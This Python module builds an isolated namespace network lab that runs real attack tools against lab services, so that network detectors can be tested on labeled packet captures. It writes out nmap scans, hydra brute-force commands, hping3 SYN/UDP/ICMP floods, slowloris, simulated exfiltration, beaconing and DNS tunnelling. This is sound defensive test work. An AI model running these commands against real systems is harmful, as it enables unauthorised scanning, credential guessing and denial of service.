"""``tergeu lab net``: an isolated network of namespaces where real attack tools run against real services.

Why: detectors and the model must be checked against what nmap, hping3, hydra and slowhttptest
actually put on the wire, not against synthetic packets. Every host is a network namespace joined
to a bridge that lives in its own "switch" namespace, so nothing touches the host's interfaces or
leaves the machine. Offloads are switched off on every veth end (with them on, the capture shows
64 KiB "packets"). Each tool runs under ``timeout`` with a packet/attempt count; every scenario is
captured to its own pcap by tcpdump on the bridge, and ``manifest.json`` labels who attacked whom,
with which tool and command, and when.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shlex
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tergeu.errors import ToolMissing

SUBNET = "10.77.0"
HOSTS = {"srv": 10, "cli": 20, "vic": 30, "atk": 66, "atk2": 67}
BENIGN = ("cli",)
DNS_ZONE = "lab.example"
USER_OK = "admin:Zx9-lab-Secret"

Runner = Callable[..., subprocess.CompletedProcess[str]]


def ip_of(host: str) -> str:
    return f"{SUBNET}.{HOSTS[host]}"


def check_tools(tools: Sequence[str]) -> None:
    """Root, ``ip netns`` and every named tool, or a ToolMissing that says which."""
    if os.geteuid() != 0:
        raise ToolMissing("root is needed to create network namespaces (run as root)", tool="root")
    missing = [t for t in ("ip", "tcpdump", "ethtool", *tools) if shutil.which(t) is None]
    if missing:
        raise ToolMissing(
            "missing: " + ", ".join(missing) + " (apt-get install " + " ".join(sorted(set(missing))) + ")",
            tool=",".join(missing),
        )


@dataclass
class Label:
    capture: str
    kind: str
    subtype: str
    attacker: str
    target: str
    tool: str
    command: str
    start: str
    end: str


@dataclass
class Lab:
    """A running lab; use as a context manager so namespaces and processes always go away."""

    out: Path
    prefix: str = field(default_factory=lambda: f"tg{os.getpid() % 100000}")
    procs: list[subprocess.Popen[bytes]] = field(default_factory=list)
    labels: list[Label] = field(default_factory=list)
    captures: list[dict[str, Any]] = field(default_factory=list)
    log: list[str] = field(default_factory=list)

    def ns(self, host: str) -> str:
        return f"{self.prefix}-{host}"

    def sh(self, cmd: str, check: bool = True, timeout: float = 30) -> subprocess.CompletedProcess[str]:
        self.log.append(cmd)
        return subprocess.run(cmd, shell=True, check=check, capture_output=True, text=True, timeout=timeout)

    def in_ns(
        self, host: str, cmd: str, timeout: float = 60, check: bool = False
    ) -> subprocess.CompletedProcess[str]:
        return self.sh(f"ip netns exec {self.ns(host)} {cmd}", check=check, timeout=timeout + 10)

    def spawn(self, host: str, args: list[str], stdout: Any = subprocess.DEVNULL) -> subprocess.Popen[bytes]:
        p = subprocess.Popen(
            ["ip", "netns", "exec", self.ns(host), *args],
            stdout=stdout,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        self.procs.append(p)
        return p

    # ------------------------------------------------------------------ topology
    def __enter__(self) -> Lab:
        self.out.mkdir(parents=True, exist_ok=True)
        sw = self.ns("sw")
        self.sh(f"ip netns add {sw}")
        self.sh(f"ip -n {sw} link add br0 type bridge")
        self.sh(f"ip -n {sw} link set br0 up")
        self.sh(f"ip -n {sw} link set lo up")
        for i, (host, octet) in enumerate(HOSTS.items()):
            ns = self.ns(host)
            self.sh(f"ip netns add {ns}")
            a, b = f"{self.prefix}h{i}", f"{self.prefix}s{i}"
            # Both ends are created directly inside the namespaces: nothing appears on the host.
            self.sh(f"ip -n {ns} link add eth0 type veth peer name {b} netns {sw}")
            self.sh(f"ip -n {sw} link set {b} master br0 up")
            self.sh(f"ip -n {ns} addr add {SUBNET}.{octet}/24 dev eth0")
            self.sh(f"ip -n {ns} link set eth0 up")
            self.sh(f"ip -n {ns} link set lo up")
            for side, dev in ((ns, "eth0"), (sw, b)):
                self.sh(f"ip netns exec {side} ethtool -K {dev} tso off gso off gro off tx off", check=False)
            del a
        return self

    def __exit__(self, *exc: object) -> None:
        for p in self.procs:
            if p.poll() is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(p.pid, signal.SIGTERM)
        for p in self.procs:
            try:
                p.wait(timeout=5)
            except subprocess.TimeoutExpired:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(p.pid, signal.SIGKILL)
        for host in (*HOSTS, "sw"):
            ns = self.ns(host)
            pids = self.sh(f"ip netns pids {ns}", check=False).stdout.split()
            for pid in pids:
                with contextlib.suppress(ProcessLookupError, ValueError):
                    os.kill(int(pid), signal.SIGKILL)
            self.sh(f"ip netns del {ns}", check=False)

    def start_services(self) -> None:
        py = sys.executable
        self.spawn("srv", [py, "-m", "tergeu.net.lab_services", "http", "80"])
        self.spawn("srv", [py, "-m", "tergeu.net.lab_services", "ftp", "21"])
        if shutil.which("dnsmasq"):
            self.spawn(
                "srv",
                [
                    "dnsmasq",
                    "--no-daemon",
                    "--no-resolv",
                    "--no-hosts",
                    "--port=53",
                    f"--listen-address={ip_of('srv')}",
                    "--bind-interfaces",
                    f"--address=/{DNS_ZONE}/{ip_of('srv')}",
                    "--pid-file=",
                    "--user=root",
                ],
            )
        # Wait until HTTP answers (bounded).
        for _ in range(50):
            r = self.in_ns("cli", f"curl -s -o /dev/null -m 1 http://{ip_of('srv')}/", timeout=3)
            if r.returncode == 0:
                return
            time.sleep(0.2)

    # ------------------------------------------------------------------ capture and scenarios
    def capture(self, name: str, snaplen: int = 256) -> Capture:
        return Capture(self, name, snaplen)

    def benign(self, seconds: float, seed: int) -> subprocess.Popen[bytes]:
        """Ordinary users: web pages, DNS lookups, a download and a correct FTP login, at human pace."""
        rnd = random.Random(seed)
        pages = ["/", "/news", "/about", "/img/logo.png", "/docs/report.pdf", "/static/app.js", "/contact"]
        names = ["www", "mail", "portal", "intranet", "files", "wiki", "vpn"]
        steps = []
        t = 0.0
        while t < seconds:
            r = rnd.random()
            if r < 0.55:
                steps.append(
                    f"curl -s -o /dev/null -m 3 -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' http://{ip_of('srv')}{rnd.choice(pages)}"
                )
            elif r < 0.85:
                steps.append(f"dig +short +time=1 +tries=1 @{ip_of('srv')} {rnd.choice(names)}.{DNS_ZONE}")
            elif r < 0.95:
                steps.append(
                    f"curl -s -o /dev/null -m 3 -u {rnd.choice(['alice', 'admin'])}:wrongonce http://{ip_of('srv')}/admin"
                )
            else:
                steps.append(f"curl -s -m 3 ftp://{ip_of('srv')}/ --user admin:Zx9-lab-Secret -o /dev/null")
            pause = rnd.uniform(0.2, 1.5)
            steps.append(f"sleep {pause:.2f}")
            t += pause + 0.05
        script = "; ".join(steps)
        return self.spawn("cli", ["timeout", str(int(seconds) + 15), "bash", "-c", script])

    def busy_users(self, cap: Capture, seconds: float, workers: int, seed: int) -> None:
        """An office's worth of ordinary traffic at once from the benign hosts: pages, many distinct
        DNS names, downloads of 0.1-1 MB, searches (POST), FTP logins with the right password."""
        rnd = random.Random(seed)
        words = [
            "mail",
            "portal",
            "intranet",
            "files",
            "wiki",
            "vpn",
            "crm",
            "erp",
            "hr",
            "news",
            "cdn",
            "static",
            "api",
            "auth",
            "sso",
            "docs",
            "git",
            "ci",
            "jira",
            "chat",
        ]
        procs = []
        for w in range(workers):
            host = "cli" if w % 2 == 0 else "vic"
            steps = []
            t = 0.0
            while t < seconds:
                r = rnd.random()
                if r < 0.5:
                    steps.append(
                        f"curl -s -o /dev/null -m 5 http://{ip_of('srv')}/{rnd.choice(words)}/{rnd.randrange(1000)}"
                    )
                elif r < 0.8:
                    steps.append(
                        f"dig +short +time=1 +tries=1 @{ip_of('srv')} {rnd.choice(words)}{rnd.randrange(30)}.{DNS_ZONE}"
                    )
                elif r < 0.86:
                    steps.append(
                        f"curl -s -o /dev/null -m 10 http://{ip_of('srv')}/files/{rnd.randrange(1, 10)}.bin"
                    )
                elif r < 0.9:
                    steps.append(f"curl -s -m 3 -o /dev/null ftp://{ip_of('srv')}/ --user {USER_OK}")
                else:
                    steps.append(
                        f"curl -s -o /dev/null -m 5 -X POST -d 'q={rnd.randrange(10**6)}' http://{ip_of('srv')}/search"
                    )
                pause = rnd.uniform(0.05, 0.6)
                steps.append(f"sleep {pause:.2f}")
                t += pause + 0.05
            procs.append(
                self.spawn(host, ["timeout", str(int(seconds) + 20), "bash", "-c", "; ".join(steps)])
            )
        for p in procs:
            try:
                p.wait(timeout=seconds + 30)
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGTERM)

    def attack(
        self,
        cap: Capture,
        host: str,
        kind: str,
        subtype: str,
        tool: str,
        cmd: str,
        limit: float,
        target: str = "srv",
    ) -> None:
        start = datetime.now(UTC)
        self.in_ns(host, f"timeout {int(limit)} {cmd}", timeout=limit)
        end = datetime.now(UTC)
        self.labels.append(
            Label(
                cap.file.name,
                kind,
                subtype,
                ip_of(host),
                ip_of(target),
                tool,
                cmd,
                start.isoformat(),
                end.isoformat(),
            )
        )

    def write_manifest(self, extra: dict[str, Any]) -> Path:
        path = self.out / "manifest.json"
        data = {
            "made_with": "tergeu lab net",
            "subnet": f"{SUBNET}.0/24",
            "hosts": {h: ip_of(h) for h in HOSTS},
            "benign_hosts": [ip_of(h) for h in BENIGN] + [ip_of("srv")],
            # captures in which every host is benign (the compromised host included)
            "benign_captures": [c["file"] for c in self.captures if c["scenario"].startswith("benign")],
            "captures": self.captures,
            "labels": [vars(lbl) for lbl in self.labels],
            "tools": _versions(),
            **extra,
        }
        path.write_text(json.dumps(data, indent=2), encoding="utf-8")
        return path


class Capture:
    """tcpdump on the bridge for one scenario (the bridge sees every host's traffic)."""

    def __init__(self, lab: Lab, name: str, snaplen: int) -> None:
        self.lab = lab
        self.file = lab.out / f"{name}.pcap"
        self.name = name
        self.snaplen = snaplen
        self.proc: subprocess.Popen[bytes] | None = None

    def __enter__(self) -> Capture:
        self.proc = self.lab.spawn(
            "sw",
            ["tcpdump", "-i", "br0", "-s", str(self.snaplen), "-U", "-n", "-Z", "root", "-w", str(self.file)],
        )
        for _ in range(50):
            if self.file.exists():
                break
            time.sleep(0.1)
        time.sleep(0.5)
        return self

    def __exit__(self, *exc: object) -> None:
        time.sleep(1.0)
        if self.proc is not None and self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGINT)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
        self.lab.captures.append({"file": self.file.name, "scenario": self.name, "snaplen": self.snaplen})


def _versions() -> dict[str, str]:
    out = {}
    for tool, arg in (
        ("nmap", "--version"),
        ("hping3", "--version"),
        ("hydra", "-h"),
        ("slowhttptest", "-h"),
        ("tcpdump", "--version"),
    ):
        if shutil.which(tool):
            try:
                r = subprocess.run([tool, arg], capture_output=True, text=True, timeout=5)
                text = (r.stdout + r.stderr).strip().splitlines()
                out[tool] = next((ln for ln in text if any(ch.isdigit() for ch in ln)), "")[:100]
            except (subprocess.TimeoutExpired, OSError):
                out[tool] = "?"
    return out


def _wordlist(path: Path, n: int, seed: int) -> Path:
    rnd = random.Random(seed)
    words = ["123456", "password", "qwerty", "letmein", "admin", "welcome", "dragon", "monkey", "111111"]
    words += ["".join(rnd.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(8)) for _ in range(n)]
    path.write_text("\n".join(words[:n]) + "\n", encoding="utf-8")
    return path


SCENARIOS = (
    "syn_scan",
    "connect_scan",
    "stealth_scan",
    "udp_scan",
    "host_sweep",
    "bruteforce_http",
    "bruteforce_ftp",
    "syn_flood",
    "udp_flood",
    "icmp_flood",
    "slowloris",
    "exfiltration",
    "beaconing",
    "dns_tunnel",
    "benign",
    "benign_busy",
)
# Not in the default run: a full 65,535-port scan of three hosts used by benchmarks/bench_net.py.
EXTRA_SCENARIOS = ("full_scan",)
TOOLS = {
    "full_scan": "nmap",
    "syn_scan": "nmap",
    "connect_scan": "nmap",
    "stealth_scan": "nmap",
    "udp_scan": "nmap",
    "host_sweep": "nmap",
    "bruteforce_http": "hydra",
    "bruteforce_ftp": "hydra",
    "syn_flood": "hping3",
    "udp_flood": "hping3",
    "icmp_flood": "hping3",
    "slowloris": "slowhttptest",
    "exfiltration": "curl",
    "beaconing": "curl",
    "dns_tunnel": "dig",
    "benign": "curl",
    "benign_busy": "curl",
}


def run_lab(
    out: Path,
    scenarios: Sequence[str] = SCENARIOS,
    seed: int = 1,
    scale: float = 1.0,
    say: Callable[[str], None] = print,
) -> Path:
    """Build the lab, run the chosen scenarios (each with benign traffic around it), write the manifest."""
    unknown = [s for s in scenarios if s not in SCENARIOS + EXTRA_SCENARIOS]
    if unknown:
        from tergeu.errors import ConfigError

        raise ConfigError(f"unknown lab scenario(s): {', '.join(unknown)}; known: {', '.join(SCENARIOS)}")
    check_tools(sorted({TOOLS[s] for s in scenarios} | {"curl", "dig"}))
    rnd = random.Random(seed)
    srv = ip_of("srv")
    out = out.resolve()
    with Lab(out) as lab:
        lab.start_services()
        words = _wordlist(out / "passwords.txt", max(20, int(60 * scale)), seed)
        for name in scenarios:
            say(name)
            # the busy office moves megabytes of random bytes: headers are what matters there
            with lab.capture(name, snaplen=128 if name == "benign_busy" else 256) as cap:
                bg = lab.benign(
                    seconds=6 + 10 * scale if name != "benign" else 40 * scale, seed=rnd.randrange(1 << 30)
                )
                time.sleep(1.0)
                n_ports = int(rnd.choice([300, 500, 1000]) * scale) or 100
                if name == "syn_scan":
                    lab.attack(
                        cap,
                        "atk",
                        "port_scan",
                        "syn",
                        "nmap",
                        f"nmap -n -Pn -sS -p 1-{n_ports} -T4 --max-retries 1 {srv}",
                        60,
                    )
                elif name == "connect_scan":
                    lab.attack(
                        cap,
                        "atk2",
                        "port_scan",
                        "connect",
                        "nmap",
                        f"nmap -n -Pn -sT -p 1-{n_ports} -T4 --max-retries 1 {srv}",
                        60,
                    )
                elif name == "stealth_scan":
                    for flag in ("-sF", "-sX", "-sN"):
                        sub = {"-sF": "fin", "-sX": "xmas", "-sN": "null"}[flag]
                        lab.attack(
                            cap,
                            "atk",
                            "port_scan",
                            sub,
                            "nmap",
                            f"nmap -n -Pn {flag} -p 1-{n_ports // 3} -T4 --max-retries 0 {srv}",
                            60,
                        )
                elif name == "udp_scan":
                    lab.attack(
                        cap,
                        "atk2",
                        "port_scan",
                        "udp",
                        "nmap",
                        f"nmap -n -Pn -sU -p 1-{max(50, n_ports // 5)} -T5 --max-retries 0 {srv}",
                        60,
                    )
                elif name == "host_sweep":
                    lab.attack(
                        cap,
                        "atk",
                        "host_sweep",
                        "ping",
                        "nmap",
                        f"nmap -n -sn --disable-arp-ping --send-ip {SUBNET}.1-{int(120 * scale) or 40}",
                        60,
                        target="srv",
                    )
                elif name == "bruteforce_http":
                    lab.attack(
                        cap,
                        "atk2",
                        "brute_force",
                        "http-basic",
                        "hydra",
                        f"hydra -l admin -P {words} -t 4 -f -I {srv} http-get /admin",
                        90,
                    )
                elif name == "bruteforce_ftp":
                    lab.attack(
                        cap,
                        "atk",
                        "brute_force",
                        "ftp",
                        "hydra",
                        f"hydra -l root -P {words} -t 4 -I ftp://{srv}",
                        90,
                    )
                elif name == "syn_flood":
                    lab.attack(
                        cap,
                        "atk",
                        "dos",
                        "syn_flood",
                        "hping3",
                        f"hping3 -S -p 80 -i u{rnd.choice([200, 300, 500])} -c {int(4000 * scale)} {srv}",
                        30,
                    )
                elif name == "udp_flood":
                    lab.attack(
                        cap,
                        "atk2",
                        "dos",
                        "udp_flood",
                        "hping3",
                        f"hping3 --udp -p 53 -d 120 -i u{rnd.choice([200, 300, 500])} -c {int(4000 * scale)} {srv}",
                        30,
                    )
                elif name == "icmp_flood":
                    lab.attack(
                        cap,
                        "atk",
                        "dos",
                        "icmp_flood",
                        "hping3",
                        f"hping3 --icmp -d 64 -i u{rnd.choice([200, 300, 500])} -c {int(4000 * scale)} {srv}",
                        30,
                    )
                elif name == "slowloris":
                    secs = max(15, int(25 * scale))
                    lab.attack(
                        cap,
                        "atk2",
                        "dos",
                        "slowloris",
                        "slowhttptest",
                        f"slowhttptest -H -c {rnd.choice([150, 200, 300])} -r 100 -i 3 -l {secs} -t GET -u http://{srv}/ -p 3 -x 20",
                        secs + 10,
                    )
                elif name == "exfiltration":
                    blob = out / "blob.bin"
                    blob.write_bytes(os.urandom(int(rnd.choice([3, 4, 6]) * (1 << 20) * scale)))
                    lab.attack(
                        cap,
                        "vic",
                        "exfiltration",
                        "http-upload",
                        "curl",
                        f"curl -s -m 60 -o /dev/null -T {blob} http://{srv}/upload",
                        60,
                    )
                    blob.unlink()
                elif name == "beaconing":
                    period = rnd.choice([1.0, 1.5, 2.0])
                    n = max(12, int(20 * scale))
                    loop = "; ".join(
                        f"curl -s -o /dev/null -m 2 -A 'Mozilla/4.0 (compatible; MSIE 6.0)' http://{srv}/beacon?id=7f3a; sleep {period * rnd.uniform(0.8, 1.2):.2f}"
                        for _ in range(n)
                    )
                    lab.attack(
                        cap,
                        "vic",
                        "beaconing",
                        "http",
                        "curl",
                        f"bash -c {shlex.quote(loop)}",
                        n * period * 1.3 + 10,
                    )
                elif name == "dns_tunnel":
                    n = max(60, int(150 * scale))
                    qs = []
                    for k in range(n):
                        chunk = os.urandom(rnd.choice([24, 30, 36])).hex()
                        lab_label = ".".join(chunk[i : i + 60] for i in range(0, len(chunk), 60))
                        qs.append(f"{lab_label}.{k:04x}.t.{DNS_ZONE}")
                    batch = out / "queries.txt"
                    batch.write_text(
                        "\n".join(f"{q} {rnd.choice(['TXT', 'A', 'CNAME'])}" for q in qs) + "\n",
                        encoding="utf-8",
                    )
                    lab.attack(
                        cap,
                        "vic",
                        "dns_tunnel",
                        "dig-encoded",
                        "dig",
                        f"dig +time=1 +tries=1 @{srv} -f {batch}",
                        90,
                    )
                    batch.unlink()
                elif name == "full_scan":
                    for tgt in ("srv", "cli", "vic"):
                        lab.attack(
                            cap,
                            "atk",
                            "port_scan",
                            "syn",
                            "nmap",
                            f"nmap -n -Pn -sS -p- -T5 --min-rate 20000 --max-retries 0 {ip_of(tgt)}",
                            120,
                            target=tgt,
                        )
                elif name == "benign":
                    pass
                elif name == "benign_busy":
                    lab.busy_users(cap, seconds=max(20, 90 * scale), workers=8, seed=rnd.randrange(1 << 30))
                try:
                    bg.wait(timeout=60 * max(scale, 1))
                except subprocess.TimeoutExpired:
                    os.killpg(bg.pid, signal.SIGTERM)
        words.unlink()
        return lab.write_manifest({"seed": seed, "scale": scale, "scenarios": list(scenarios)})
